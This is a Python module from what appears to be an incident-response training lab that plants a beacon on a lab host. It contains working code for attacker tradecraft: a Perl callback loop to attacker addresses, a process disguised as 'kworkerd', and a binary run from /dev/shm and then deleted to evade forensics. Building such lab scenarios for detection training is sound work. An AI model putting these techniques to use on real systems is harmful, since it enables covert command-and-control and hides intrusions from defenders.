"""A beacon: a program that runs from a deleted binary on a host and calls the attacker until it is stopped."""

from __future__ import annotations

import secrets
import shlex
import time

from irflow.lab.lab import Lab
from irflow.lab.listener import Listener
from irflow.lab.model import LabError, LabHost
from irflow.lab.session import Session

START_S = 10.0
_MEMORY = "/dev/shm"

# Calls home every 0.2 s, by turns over v4 and v6; a try ends after 1 s, so that it goes on after a cut.
_BEACON = """\
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6);
my ($port, $word, @to) = @ARGV;
$SIG{ALRM} = sub { die };
for (my $n = 0; ; $n++) {
  my $to = $to[$n % @to];
  my $six = $to =~ /:/;
  eval {
    alarm 1;
    socket(my $s, $six ? AF_INET6 : AF_INET, SOCK_STREAM, 0) or die;
    my $a = inet_pton($six ? AF_INET6 : AF_INET, $to);
    connect($s, $six ? pack_sockaddr_in6($port, $a) : pack_sockaddr_in($port, $a)) or die;
    syswrite($s, "$word\\n");
    close($s);
  };
  alarm 0;
  select(undef, undef, undef, 0.2);
}
"""

# Copies a real interpreter into memory, starts it, and removes the file as soon as it runs.
_START = """\
f={folder}/kworkerd; mkdir -p {folder} && cp "$(command -v perl)" $f && \
{{ setsid $f -e {beacon} {arguments} </dev/null >/dev/null 2>&1 & }} && \
while [ "$(readlink /proc/$!/exe)" != "$f" ] && kill -0 $!; do :; done; rm -r {folder}; echo $!"""


class Beacon:
    """One beacon and the listener that hears it. path: where its program was. pid: its process on the host."""

    def __init__(self, lab: Lab, host: LabHost, session: Session) -> None:
        """Start it from a session on the host. Raises LabError when no call comes; then nobody listens."""
        token = secrets.token_hex(16)
        self.path = f"{_MEMORY}/.{token[:8]}/kworkerd"
        self.listener = Listener(lab.netns("attacker"), lab.attacker_addresses, token)
        try:
            self.pid = self._start(lab, host, session, token)
        except BaseException:  # also Ctrl-C
            self.listener.close()
            raise

    def last(self) -> float | None:
        """When the last call came (time.monotonic, seconds), or None."""
        return self.listener.last()

    def seen_since(self, moment: float, timeout_s: float = 0.0) -> bool:
        """Whether a call came after `moment` (time.monotonic); waits up to timeout_s seconds for one."""
        return self.listener.wait_since(moment, timeout_s)

    def close(self) -> None:
        """Stop listening; the program goes on. Twice is fine."""
        self.listener.close()

    def _start(self, lab: Lab, host: LabHost, session: Session, token: str) -> int:
        before = time.monotonic()
        arguments = [str(self.listener.port), token, *lab.attacker_addresses]
        line = _START.format(
            folder=self.path.rpartition("/")[0],
            beacon=shlex.quote(" ".join(_BEACON.split())),
            arguments=shlex.join(arguments),
        )
        answer = session.ask(line, START_S)
        lines = (answer or "").split()
        if not lines or not lines[-1].isdigit():
            raise LabError(f"the beacon did not start: {answer!r}", where=host.name)
        if not self.seen_since(before, START_S):
            raise LabError("no beacon reached the attacker", where=host.name)
        return int(lines[-1])
